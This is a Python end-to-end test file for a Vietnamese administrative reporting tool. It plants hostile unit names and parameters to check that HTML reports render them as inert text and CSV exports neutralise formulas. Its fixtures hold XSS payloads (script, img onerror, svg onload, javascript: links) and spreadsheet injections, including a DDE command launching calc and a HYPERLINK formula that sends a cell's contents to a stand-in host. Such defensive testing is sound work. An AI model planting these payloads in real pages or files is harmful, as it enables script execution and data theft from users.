"""Hostile names and params, as an attacker would plant them in a registry, an alias or a params file: every
HTML output of a run, opened in a real browser with the network off, shows them as inert text; every CSV keeps
them from being a formula; and every interactive chart draws."""

from __future__ import annotations

import csv
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import browser_dom, run_cli

# real runs of the command end to end (see conftest: `pytest -m "not e2e"` is the fast loop)
pytestmark = pytest.mark.e2e

REPO = Path(__file__).resolve().parents[1]
# Each payload, if it ever runs, marks the page's <body>; a link or image built from data is caught as well.
SCRIPT = 'UBND xã Ngọc Kỳ <script>document.body.setAttribute("data-pwned", "script")</script>'
IMG = "Ngọc Kỳ <img src=x onerror=\"document.body.setAttribute('data-pwned', 'img')\">"
LINK = "[bấm](javascript:document.body.setAttribute('data-pwned','link'))"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Tiên Động")'
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
ISSUER = "UBND huyện Tứ Kỳ </script><svg onload=\"document.body.setAttribute('data-pwned','svg')\">"


def _hostile_workspace(root: Path) -> Path:
    """A copy of the repository's params with hostile names on units the May and August letters name, each
    keeping its real name as an alias so the sample still matches."""
    shutil.copytree(REPO / "params", root / "params")
    shutil.copytree(REPO / "notebooks", root / "notebooks")
    registry = root / "params" / "units" / "tu-ky.csv"
    with registry.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    hostile = {
        "ngoc-ky": (SCRIPT, IMG),
        "tien-dong": (FORMULA, LINK),
        "ha-ky": (MINUS, MINUS),
        "dan-chu": (AT, "\tDân Chủ"),
        "cong-lac": (LINK, LINK),
        "p-tc-kh": ("+Phòng Tài chính - Kế hoạch", LINK + " "),
    }
    found = set()
    for r in rows:
        if r["id"] in hostile:
            found.add(r["id"])
            name, short = hostile[r["id"]]
            r["aliases"] = "|".join(a for a in [r["aliases"], r["name"], r["short_name"]] if a)
            r["name"], r["short_name"] = name, short
    assert found == set(hostile), set(hostile) - found
    with registry.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    defaults = root / "params" / "defaults.yaml"
    text = defaults.read_text(encoding="utf-8")
    text = text.replace("  issuer: UBND huyện Tứ Kỳ", f"  issuer: '{ISSUER.replace(chr(39), chr(39) * 2)}'")
    text = text.replace("area_name: huyện", 'area_name: "huyện <b onmouseover=alert(1)>Tứ Kỳ</b>"')
    defaults.write_text(text, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def hostile_runs(tmp_path_factory):
    root = _hostile_workspace(tmp_path_factory.mktemp("hostile"))
    db, out = root / "data" / "cchc.duckdb", root / "outputs"
    # run from inside the workspace, as an analyst does: its params and registry are found there
    res = run_cli("ingest", "--sample", "--store", str(db), cwd=root)
    assert res.returncode == 0, res.stdout + res.stderr
    for args in (["monthly", "2023-05"], ["anomalies", "2023-05"], ["semiannual", "2023-H1"]):
        res = run_cli("run", *args, "--store", str(db), "--out", str(out), cwd=root)
        assert res.returncode == 0, res.stdout + res.stderr
    return out


class _Dom(HTMLParser):
    """What a reader's browser holds: live links and handlers, the body's attributes, the visible text, and
    the marks drawn inside each chart container."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.body: dict[str, str | None] = {}
        self.live: list[str] = []
        self.text: list[str] = []
        self.charts: dict[str, int] = {}
        self._chart: str | None = None
        self._depth = 0
        self._skip = 0

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "body":
            self.body = a
        for k, v in attrs:
            if k.startswith("on") or (k in ("href", "src") and (v or "").strip().lower().startswith("javascript:")):
                self.live.append(f"<{tag} {k}={v!r}>")
        if tag in ("script", "style"):
            self._skip += 1
        if self._chart is not None:
            self._depth += 1
            if tag in ("path", "line", "rect", "circle"):
                self.charts[self._chart] += 1
        elif "cchc-chart" in (a.get("class") or ""):
            self._chart, self._depth = a.get("id", str(len(self.charts))), 1
            self.charts[self._chart] = 0

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self._skip = max(0, self._skip - 1)
        if self._chart is not None:
            self._depth -= 1
            if self._depth == 0:
                self._chart = None

    def handle_data(self, data):
        if not self._skip:
            self.text.append(data)


def _read_dom(page: Path, tmp_path: Path) -> tuple[_Dom, str]:
    dom, log = browser_dom(page, tmp_path)
    parsed = _Dom()
    parsed.feed(dom)
    return parsed, log


def test_hostile_names_stay_text_in_every_html_output(hostile_runs, tmp_path):
    pages = sorted(hostile_runs.rglob("*.html"))
    assert {p.name for p in pages} >= {
        "01_monthly_review.html",
        "03_anomalies.html",
        "02_semiannual_report.html",
        "phu-luc-2023-05.html",
        "phu-luc-2023-H1.html",
    }, pages
    for page in pages:
        dom, _ = _read_dom(page, tmp_path)
        assert "data-pwned" not in dom.body, (page.name, dom.body)
        assert dom.live == [], (page.name, dom.live)
        if "anomalies" not in page.name:  # the anomalies page names units only where a check flags them
            assert "Ngọc Kỳ" in " ".join(dom.text), page.name
    review = " ".join(_read_dom(hostile_runs / "2023-05" / "01_monthly_review.html", tmp_path)[0].text)
    # the letter names the hostile units, and the reader sees exactly what was written
    for shown in ('<script>document.body.setAttribute("data-pwned", "script")</script>', "[bấm](javascript:"):
        assert shown in review, shown


def _cells(path: Path) -> tuple[list[str], list[list[str]]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name} has no BOM"
    rows = list(csv.reader(raw[3:].decode("utf-8").splitlines(keepends=False)))
    return rows[0], rows[1:]


def test_no_csv_cell_is_a_formula(hostile_runs):
    files = sorted(hostile_runs.rglob("*.csv"))
    assert {f.name for f in files} >= {"findings.csv", "indicators.csv", "anomalies.csv", "scores.csv"}
    number = re.compile(r"^-?\d+(\.\d+)?(e-?\d+)?$")
    seen_hostile = seen_negative = False
    for f in files:
        _, rows = _cells(f)
        for row in rows:
            for cell in row:
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert number.match(cell), (f.name, cell)  # a plain number, which Excel keeps a number
                    seen_negative = True
                if cell.startswith("'") and any(h in cell for h in ("HYPERLINK", "cmd|", "Phòng Tài chính")):
                    seen_hostile = True
    assert seen_hostile, "the hostile names should appear (prefixed) in the CSVs"
    assert seen_negative, "negative changes stay numbers"


def test_findings_csv_keeps_the_name_after_the_prefix(hostile_runs):
    header, rows = _cells(hostile_runs / "2023-05" / "findings.csv")
    units = {r[header.index("unit")] for r in rows}
    assert "'" + FORMULA in units or "'" + MINUS in units, units


def test_every_interactive_chart_draws_offline(hostile_runs, tmp_path):
    dom, log = _read_dom(hostile_runs / "2023-05-bat-thuong" / "03_anomalies.html", tmp_path)
    assert len(dom.charts) == 6, dom.charts  # the exploration page, then each rate's level against its change
    assert all(marks > 10 for marks in dom.charts.values()), dom.charts
    assert "already been declared" not in log
    html = (hostile_runs / "2023-05-bat-thuong" / "03_anomalies.html").read_text(encoding="utf-8")
    assert html.count("window.vegaEmbed=") == 1  # one Vega bundle on the page
